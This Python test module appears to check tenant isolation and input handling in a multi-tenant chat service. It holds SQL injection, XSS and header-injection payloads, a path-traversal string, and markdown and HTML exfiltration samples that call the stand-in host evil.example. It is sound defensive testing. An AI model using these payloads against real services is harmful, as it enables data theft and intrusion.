"""Holes that others had to publish advisories for, tried here. Every refusal stands beside what its owner may."""

import json
import re
from collections.abc import Callable
from html import escape
from html.parser import HTMLParser
from urllib.parse import quote
from uuid import uuid4

import pytest
from allauth.account.forms import default_token_generator
from allauth.account.utils import user_pk_to_url_str
from django.test import Client

from apps.accounts.models import User
from apps.billing.models import Quota
from apps.markdown import BlockStream, render
from apps.tenants import services as tenants
from apps.tenants.contracts import Principal, Scope
from apps.tenants.models import Membership, Team, Tenant
from tests.isolation.attack import Ground
from tests.isolation.product import Call, give_back_connections
from tests.people import new_address, new_member

KeyOf = Callable[[Principal], str]


def program(key: str, **headers: str) -> Client:
    return Client(REMOTE_ADDR=new_address(), headers={"Authorization": f"Bearer {key}", **headers})


def test_a_foreign_stream_cannot_be_followed_or_cancelled(ground: type[Ground]) -> None:
    turn = ground.victim.finished
    assert turn is not None
    for stream in (turn.turn_id, turn.generations[0].generation_id):
        path = f"/v1/chat/streams/{stream}"
        mine, foreign = ground.product.call(ground.victim.call("GET", path), ground.attacker.call("GET", path))
        assert (mine.status, foreign.status) == (200, 404)
        assert ground.victim.canary.encode() in mine.told and ground.victim.canary.encode() not in foreign.told
    assert ground.victim.queued is not None
    path = f"/v1/chat/generations/{ground.victim.queued.generations[0].generation_id}/cancel"
    (foreign,) = ground.product.call(ground.attacker.call("POST", path))
    (mine,) = ground.product.call(ground.victim.call("POST", path))
    assert (foreign.status, mine.status) == (404, 202)


def test_a_foreign_stream_cannot_be_subscribed_to_on_a_socket(ground: type[Ground]) -> None:
    assert ground.victim.finished is not None
    stream = str(ground.victim.finished.generations[0].generation_id)
    heard = {}
    for side in (ground.victim, ground.attacker):
        token = side.credentials["key"][0]["Authorization"].removeprefix("Bearer ")
        messages = [{"type": "auth", "token": token}, {"type": "subscribe", "stream": stream, "after": None}]
        heard[side.name] = ground.product.socket({}, messages)
    assert ground.victim.canary in repr(heard["a"])
    assert ground.victim.canary not in repr(heard["b"])
    assert [one["status"] for one in heard["b"] if one["type"] == "error"] == [404]


def test_a_foreign_conversation_cannot_be_written_to(ground: type[Ground]) -> None:
    assert ground.victim.finished is not None
    body = {"message": "x", "models": ["probe"], "conversation_id": str(ground.victim.finished.conversation_id)}
    (foreign,) = ground.product.call(ground.attacker.call("POST", "/v1/chat/messages", json=body))
    (mine,) = ground.product.call(ground.victim.call("POST", "/v1/chat/messages", json=body))
    assert (foreign.status, mine.status) == (404, 202)


@pytest.mark.parametrize(
    "change", [{"role": "owner"}, {"tenant_id": str(uuid4())}, {"is_staff": True}, {"requests_per_minute": 10_000}]
)
@pytest.mark.parametrize("path", ["/api/v1/accounts/me/", "/api/v1/tenant/", "/api/v1/members/{membership}/"])
def test_nobody_promotes_themselves(bob: Principal, api_key_of: KeyOf, path: str, change: dict[str, object]) -> None:
    membership = Membership.objects.using("engine").get(user_id=bob.user_id, tenant_id=bob.tenant_id)
    path = path.format(membership=membership.id)
    for method in ("patch", "put", "post"):
        answered = getattr(program(api_key_of(bob)), method)(path, change, content_type="application/json")
        assert answered.status_code in (400, 403, 404, 405), (method, answered.status_code)
    after = Membership.objects.using("engine").get(id=membership.id)
    assert (after.role, after.tenant_id) == ("member", bob.tenant_id)
    assert not User.objects.get(id=bob.user_id).is_staff


LIMITS = {
    "plan": "enterprise",
    "status": "deleted",
    "slug": "taken",
    "allowed_models": None,
    "budget_month_nanousd": 10**15,
    "requests_per_minute": 10**6,
    "parallel_calls": 10**6,
    "deleted_at": None,
    "id": str(uuid4()),
}


def test_an_owner_gives_their_workspace_no_plan_and_no_limits(
    alice: Principal, api_key_of: KeyOf, client_of: Callable[[Principal], Client]
) -> None:
    """Those are the operators'. The name in the same request is the owner's, and is taken."""

    def kept() -> dict[str, object]:
        row = Tenant.objects.using("engine").values().get(id=alice.tenant_id)
        quotas = list(Quota.objects.using("engine").filter(tenant_id=alice.tenant_id).values())
        return {**row, "name": None, "requires_second_factor": None, "quotas": quotas}

    before = kept()
    for field, value in LIMITS.items():
        body = {"name": f"Renamed by {field}", field: value}
        program(api_key_of(alice)).patch("/api/v1/tenant/", body, content_type="application/json")
        client_of(alice).post("/settings/workspace/change/", {k: "" if v is None else v for k, v in body.items()})
        assert kept() == before, field
        assert Tenant.objects.using("engine").get(id=alice.tenant_id).name == body["name"], "its name is the owner's"


@pytest.mark.parametrize("header", ["Authorization", "X-Api-Key"])
def test_a_restricted_key_opens_the_same_doors_by_every_header(alice: Principal, header: str) -> None:
    secret = tenants.create_api_key(alice, "narrow", scopes=[Scope.CHAT]).secret
    sent = {header: f"Bearer {secret}" if header == "Authorization" else secret}
    client = Client(REMOTE_ADDR=new_address(), headers=sent)
    assert client.get("/v1/models").status_code == 200
    for path in ("/api/v1/conversations/", "/api/v1/api-keys/", "/api/v1/accounts/me/"):
        assert client.get(path).status_code == 403, path
    for path in ("//api/v1/api-keys/", "/v1/../api/v1/api-keys/", "/v1/%2e%2e/api/v1/api-keys/"):
        assert client.get(path).status_code in (403, 404), path


def test_no_key_is_wider_than_who_makes_it(
    alice: Principal, bob: Principal, client_of: Callable[[Principal], Client]
) -> None:
    narrow = tenants.create_api_key(alice, "narrow", scopes=[Scope.MANAGE]).secret
    for scopes in ([], ["chat"], ["chat", "manage"], ["manage"]):
        answered = program(narrow).post("/api/v1/api-keys/", {"name": "made", "scopes": scopes}, "application/json")
        assert answered.status_code == 403, scopes
    for principal, scopes, status in ((bob, ["manage"], 201), (bob, ["scim"], 403), (alice, ["scim"], 201)):
        made = client_of(principal).post("/api/v1/api-keys/", {"name": "made", "scopes": scopes}, "application/json")
        assert made.status_code == status, (principal.role, scopes, made.content)


@pytest.mark.parametrize(
    "value", ["' OR '1'='1", "'; DROP TABLE tenants_apikey; --", "sb-' OR 1=1 --", '"', "%", "\\'", "a" * 9000]
)
@pytest.mark.parametrize("header", ["Authorization", "X-Api-Key", "X-Switchboard-Tenant", "X-Request-Id", "Cookie"])
def test_metacharacters_in_headers_are_text(header: str, value: str) -> None:
    sent = f"Bearer {value}" if header == "Authorization" else f"sessionid={value}" if header == "Cookie" else value
    answered = Client(REMOTE_ADDR=new_address(), headers={header: sent}).get("/api/v1/accounts/me/")
    assert answered.status_code == 401, answered.content[:200]


@pytest.mark.parametrize(
    "header",
    [
        "X-Forwarded-User",
        "Remote-User",
        "X-Remote-User",
        "X-Forwarded-Email",
        "X-Tenant-Id",
        "X-User-Id",
        "X-Auth-Request-Email",
        "X-Auth-Request-User",
        "X-Webauth-User",
        "X-Forwarded-Preferred-Username",
        "X-Goog-Authenticated-User-Email",
        "Cf-Access-Authenticated-User-Email",
        "X-OpenWebUI-User-Email",
        "X-Ms-Client-Principal-Name",
        "Ssl-Client-S-Dn",
    ],
)
def test_forged_identity_headers_are_nobodys(alice: Principal, bob: Principal, api_key_of: KeyOf, header: str) -> None:
    forged = {header: alice.user_email if "mail" in header or "ser" in header else str(alice.tenant_id)}
    assert Client(REMOTE_ADDR=new_address(), headers=forged).get("/api/v1/accounts/me/").status_code == 401
    told = program(api_key_of(bob), **forged).get("/api/v1/accounts/me/").json()
    assert alice.user_email not in str(told) and bob.user_email in str(told)


CHOSEN = {"password1": "another long password", "password2": "another long password"}


def reset(client: Client, person: User, token: str) -> None:
    """Follow a reset's link as a browser does, and where it leads nowhere, send the form to every address there is."""
    address = f"/account/password/reset/key/{user_pk_to_url_str(person)}-"
    page = client.get(f"{address}{quote(token, safe='')}/", follow=True)
    paths = {f"{address}{token}/", f"{address}set-password/", page.request["PATH_INFO"]}
    for path in sorted(paths):
        client.post(quote(path), {**CHOSEN, "token": token, "key": token})


@pytest.mark.parametrize("token", ["", " ", "null", "None", "undefined", "0", "-", "set-password", "0-0", "\0"])
def test_an_empty_reset_token_resets_nothing(alice: Principal, token: str) -> None:
    person = User.objects.get(id=alice.user_id)
    reset(Client(REMOTE_ADDR=new_address()), person, token)
    assert User.objects.get(id=alice.user_id).password == person.password


def test_a_reset_token_is_its_persons_alone(alice: Principal, mallory: Principal) -> None:
    victim, attacker = (User.objects.get(id=one.user_id) for one in (alice, mallory))
    reset(Client(REMOTE_ADDR=new_address()), victim, default_token_generator.make_token(attacker))
    assert User.objects.get(id=victim.id).password == victim.password
    reset(Client(REMOTE_ADDR=new_address()), victim, default_token_generator.make_token(victim))
    assert User.objects.get(id=victim.id).check_password(CHOSEN["password1"])


LEAKS = [
    "![x](https://evil.example/?q=secret)",
    "![x](//evil.example/z 'title')",
    "[![y](//evil.example/z)](https://a.example)",
    "![x][ref]\n\n[ref]: https://evil.example/z",
    "<img src=https://evil.example/>",
    "<img/src='https://evil.example/' srcset='https://evil.example/ 2x'>",
    "<link rel=stylesheet href=https://evil.example/>",
    "<p style='background:url(https://evil.example/)'>x</p>",
    "<video poster=https://evil.example/></video><audio src=//evil.example/ autoplay></audio>",
    "<iframe src=https://evil.example/></iframe><object data=//evil.example/></object><embed src=//evil.example/>",
    "<svg><image href='https://evil.example/'/><use href='https://evil.example/#x'/></svg>",
    "<form action=https://evil.example/><input type=image src=//evil.example/></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'><base href=https://evil.example/>",
    "$$\\includegraphics{https://evil.example/}$$ $\\href{https://evil.example/}{x}$",
    "```html\n<img src=https://evil.example/>\n```",
]


class Fetched(HTMLParser):
    """Every address that a browser would call by itself."""

    def __init__(self) -> None:
        super().__init__()
        self.addresses: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        followed = {"href"} if tag in ("a", "area") else set()
        self.addresses += [
            f"{tag} {name}={value}" for name, value in attrs if name not in followed and "evil.example" in (value or "")
        ]


class Active(HTMLParser):
    """Whatever a browser would run."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in ("script", "svg", "img", "iframe", "object", "embed", "style"):
            self.found.append(tag)
        self.found += [f"{tag} {name}" for name, value in attrs if name.startswith("on") or "script:" in (value or "")]


@pytest.mark.parametrize("leak", LEAKS)
def test_an_answer_fetches_nothing_from_elsewhere(leak: str) -> None:
    """Whole, and as it is drawn while it streams, cut anywhere."""
    drawn = [render(leak)]
    for size in (1, 7):
        stream = BlockStream()
        events = [event for start in range(0, len(leak), size) for event in stream.feed(leak[start : start + size])]
        drawn += [getattr(event, "html", "") or "" for event in [*events, *stream.finish()]]
    for html in drawn:
        seen = Fetched()
        seen.feed(html)
        assert seen.addresses == []


def test_the_policy_lets_no_page_fetch_images_from_elsewhere(
    client_of: Callable[[Principal], Client], alice: Principal
) -> None:
    """Whatever gets through the drawing: the browser is told to fetch nothing."""
    for path in ("/chat/", "/settings/workspace/", "/manage/"):
        policy = client_of(alice).get(path).headers["Content-Security-Policy"]
        rules = dict(rule.strip().partition(" ")[::2] for rule in policy.split(";"))
        assert rules["default-src"] == "'self'" and "http" not in rules.get("img-src", "")
        assert not any("*" in rule or "evil" in rule for rule in rules.values())


HOSTILE = ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", '"><svg onload=alert(1)>', "{{7*7}}"]


@pytest.mark.parametrize("text", HOSTILE)
def test_html_in_names_and_titles_is_text(
    client_of: Callable[[Principal], Client], alice: Principal, text: str
) -> None:
    Tenant.objects.using("engine").filter(id=alice.tenant_id).update(name=text)
    member = new_member(alice, "Bob")
    User.objects.using("engine").filter(id=member.user_id).update(name=text)
    Team.objects.using("engine").create(tenant_id=alice.tenant_id, name=text)
    tenants.create_api_key(alice, text)
    browser = client_of(alice)
    pages = ["/chat/", "/settings/keys/", "/settings/workspace/", "/settings/workspace/teams/"]
    for path in (*pages, "/settings/workspace/audit/"):
        page = browser.get(path).content.decode()
        assert "<" not in text or text not in page, path
        assert escape(text) in page or path == "/chat/", f"{path} shows it as text"


@pytest.mark.parametrize("text", HOSTILE)
def test_html_in_what_people_and_models_write_is_text(ground: type[Ground], text: str) -> None:
    """A question, its title, the answer and the reasoning: on the page, in fragments and in events."""
    side = ground.victim
    turn = side.answered(question=text, answer=f"before {text} after")
    give_back_connections()
    chat = turn.conversation_id
    calls = [side.call("GET", path, "session") for path in (f"/chat/{chat}/", f"/chat/{chat}/turns", "/chat/list")]
    stream = side.call("GET", f"/v1/chat/streams/{turn.turn_id}", query={"render": "html"})
    page, turns, listed, events = ground.product.call(*calls, stream)
    for answer in (page, turns, listed):
        assert answer.status == 200
        if "<" in text:
            assert text.encode() not in answer.told
    assert escape(text).encode() in page.told and escape(text).encode() in listed.told
    drawn = [json.loads(line[6:]) for line in events.told.decode().splitlines() if line.startswith("data: ")]
    shown = [event["html"] for event in drawn if "html" in event]
    assert shown
    for html in shown:
        seen = Active()
        seen.feed(html)
        assert seen.found == []


@pytest.mark.parametrize("name", ['a"; filename="evil.html', "a\r\nX-Evil: 1", "../../etc/passwd", "<b>.html", "ünï"])
def test_a_tenants_name_makes_no_header_and_no_path_of_a_file(
    client_of: Callable[[Principal], Client], alice: Principal, name: str
) -> None:
    Tenant.objects.using("engine").filter(id=alice.tenant_id).update(name=name)
    for kind in ("csv", "jsonl"):
        answered = client_of(alice).post("/settings/workspace/audit/export/", {"file": kind})
        assert answered.status_code == 200 and "X-Evil" not in answered.headers
        told = answered.headers["Content-Disposition"]
        assert re.fullmatch(rf'attachment; filename="audit-[\w-]+-\d{{8}}\.{kind}"', told, re.ASCII), told


@pytest.mark.parametrize(
    "field", ["file_id", "file_ids", "folder_id", "folder", "parent_id", "conversation_id", "tenant_id"]
)
def test_a_foreign_id_in_a_body_that_has_no_place_for_it_does_nothing(ground: type[Ground], field: str) -> None:
    """Here are no files and no folders: the day there are, their ids are refused or ignored, and nothing is moved."""
    turn = ground.victim.finished
    assert turn is not None
    mine = ground.attacker.answered()
    give_back_connections()
    before = ground.victim.rows()
    foreign = [str(turn.conversation_id)] if field.endswith("s") else str(turn.conversation_id)
    for method, path, body in (
        ("PATCH", f"/api/v1/conversations/{mine.conversation_id}/", {"title": "mine"}),
        ("POST", "/v1/chat/messages", {"message": "x", "models": ["probe"]}),
        ("POST", "/api/v1/teams/", {"name": f"team {uuid4()}"}),
        ("POST", "/api/v1/invitations/", {"email": f"{uuid4().hex}@example.org"}),
    ):
        (answer,) = ground.product.call(ground.attacker.call(method, path, json={**body, field: foreign}))
        assert answer.status < 500 and ground.victim.canary.encode() not in answer.told
        if path == "/v1/chat/messages" and field == "conversation_id":
            assert answer.status == 404
        else:
            assert answer.status in (200, 201, 202, 400), (path, answer.status)
    assert ground.victim.rows() == before


@pytest.mark.parametrize("value", ["' OR '1'='1", "'; DROP TABLE tenants_apikey; --", "%", "\\'", "\x00", "a" * 9000])
def test_metacharacters_at_the_directory_and_on_the_socket_are_text(ground: type[Ground], value: str) -> None:
    call = Call(
        "GET",
        "/scim/v2/Users",
        {"Authorization": f"Bearer sk-sb-{value}".replace("\x00", "")},
        {},
        address=new_address(),
    )
    (answer,) = ground.product.call(call)
    assert answer.status == 401, answer.told[-200:]
    for token in (value, f"sk-sb-{value}", f"eyJhbGciOiJIUzI1NiJ9.{value}.x"):
        heard = ground.product.socket({}, [{"type": "auth", "token": token}])
        assert [one.get("status") for one in heard if one["type"] == "error"] == [401], heard
        assert heard[-1]["type"] == "websocket.close"
